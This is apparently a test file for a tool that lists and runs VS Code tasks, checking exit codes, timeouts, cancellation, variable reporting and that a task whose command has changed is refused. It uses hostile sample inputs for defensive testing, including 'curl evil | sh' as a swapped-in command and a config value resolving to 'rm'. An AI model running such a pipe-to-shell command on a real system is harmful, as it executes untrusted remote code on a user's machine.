import assert from 'node:assert/strict'
import type * as Tasks from '../../../src/workbench/tools/tasks.ts'
import { until } from '../../support/until.ts'
import { loadWithFakeVsCode } from './load-in-workbench.ts'

class ShellExecution {
  readonly commandLine: string
  constructor(commandLine: string) {
    this.commandLine = commandLine
  }
}

describe('the tasks of the editor', () => {
  const folders = ['/one', '/two'].map(fsPath => ({ uri: { fsPath } }))
  const inputs = [
    { id: 'what', type: 'command', command: 'evil.run', args: `\${config:a.b}` },
    { id: 'unused', type: 'promptString' },
  ]
  const settings: Record<string, unknown> = { 'a.b': 'rm', hostile: '{}'.repeat(75_000) }
  let reads = 0
  const executions: object[] = []
  const ended: Array<(event: { execution: object; exitCode?: number }) => void> = []
  let terminated = 0
  let commands: string[]
  let ran: Array<{ scope: unknown }>
  let tasks: typeof Tasks

  before(async () => {
    tasks = await loadWithFakeVsCode('workbench/tools/tasks.ts', {
      ProcessExecution: class {},
      CustomExecution: class {},
      ShellExecution,
      workspace: {
        workspaceFolders: folders,
        getConfiguration: (section: string | undefined) => ({
          get: (id: string) => {
            reads++
            return section === undefined ? settings[id] : undefined
          },
          inspect: (key: string) => ({
            workspaceFolderValue:
              key === 'inputs'
                ? inputs
                : [
                    { label: 'build', dependsOn: 'clean' },
                    { type: 'npm', script: 'build', dependsOn: ['lint', { type: 'npm', script: 'x' }] },
                    { label: 'other', dependsOn: 'nothing' },
                  ],
          }),
        }),
      },
      tasks: {
        fetchTasks: async () =>
          commands.map((command, i) => ({
            ...{ name: 'build', source: 'npm', scope: folders[i % 2] },
            ...{ definition: { type: 'npm', script: 'build' }, execution: new ShellExecution(command) },
          })),
        executeTask: async (task: { scope: unknown }) => {
          ran.push(task)
          const execution = { task, terminate: () => void terminated++ }
          executions.push(execution)
          return execution
        },
        onDidEndTaskProcess: (listener: (typeof ended)[number]) => {
          ended.push(listener)
          return { dispose: () => ended.splice(ended.indexOf(listener), 1) }
        },
        onDidStartTaskProcess: () => ({ dispose() {} }),
        onDidEndTask: () => ({ dispose() {} }),
      },
    })
  })
  beforeEach(() => {
    commands = ['make one', 'make two']
    ran = []
  })

  const signal = new AbortController().signal

  it('end with their exit code, when their time is over, or with the call that ran them', async () => {
    const [one] = await tasks.listTasks()
    const count = executions.length
    const running = tasks.runTask(one!, 60_000, signal)
    await until(() => executions.length > count && ended.length > 0)
    for (const listener of [...ended]) listener({ execution: {}, exitCode: 1 })
    for (const listener of [...ended]) listener({ execution: executions.at(-1)!, exitCode: 3 })
    assert.deepEqual(await running, { exitCode: 3 })
    assert.deepEqual(await tasks.runTask(one!, 1, signal), {})
    assert.equal(terminated, 0)
    const abort = new AbortController()
    const canceled = tasks.runTask(one!, 60_000, abort.signal)
    await until(() => executions.length === count + 3)
    abort.abort()
    assert.deepEqual(await canceled, {})
    await until(() => terminated === 1)
    assert.equal(ended.length, 0)
    // before it has started
    assert.deepEqual(await tasks.runTask(one!, 60_000, AbortSignal.abort()), {})
    assert.equal(executions.length, count + 3)
  })

  it('have their folder, their command and the tasks that run before them', async () => {
    const found = await tasks.listTasks()
    assert.deepEqual(
      found.map(({ folder, command }) => [folder, command]),
      [
        ['/one', 'make one'],
        ['/two', 'make two'],
      ],
    )
    assert.deepEqual(found[0]?.dependsOn, ['clean', 'lint', '{"type":"npm","script":"x"}'])
  })

  it('name the inputs that they ask for and the values of their variables', async () => {
    commands = [`make \${input:what} \${input:gone} \${command:x.y}`, 'make']
    const [one, two] = await tasks.listTasks()
    assert.deepEqual(one?.variables, [
      `\${input:gone}`,
      `\${input:what}: ${JSON.stringify(inputs[0])}`,
      `\${command:x.y}: the result of the command x.y`,
      `\${config:a.b}: "rm"`,
    ])
    assert.equal(two?.variables, undefined)
    // what it would run is another one
    settings['a.b'] = 'curl'
    await assert.rejects(tasks.runTask(one!, 1, signal), /no longer exists/)
  })

  it('are listed without what VS Code replaces in them, which is found out for a limited number', async () => {
    commands = Array.from({ length: 1000 }, (_, i) => `make ${i} \${config:hostile}`)
    reads = 0
    const found = await tasks.listTasks()
    assert.equal(found.length, 1000)
    assert.equal(reads, 0)
    const clear = found.filter(one => !one.isTooDeep)
    assert.deepEqual(clear, found.slice(0, clear.length))
    assert.ok(clear.length > 0 && clear.length < 20, `${clear.length} tasks`)
    assert.ok(reads < 100, `${reads} reads`)
    assert.match(clear[0]!.variables!.join(), /hostile/)
  })

  it('run in their own folder, and not at all if they have changed', async () => {
    const [, two] = await tasks.listTasks()
    await tasks.runTask(two!, 1, signal)
    assert.deepEqual(
      ran.map(({ scope }) => scope),
      [folders[1]],
    )
    commands = ['make one', 'curl evil | sh']
    await assert.rejects(tasks.runTask(two!, 1, signal), /no longer exists/)
    assert.equal(ran.length, 1)
  })
})
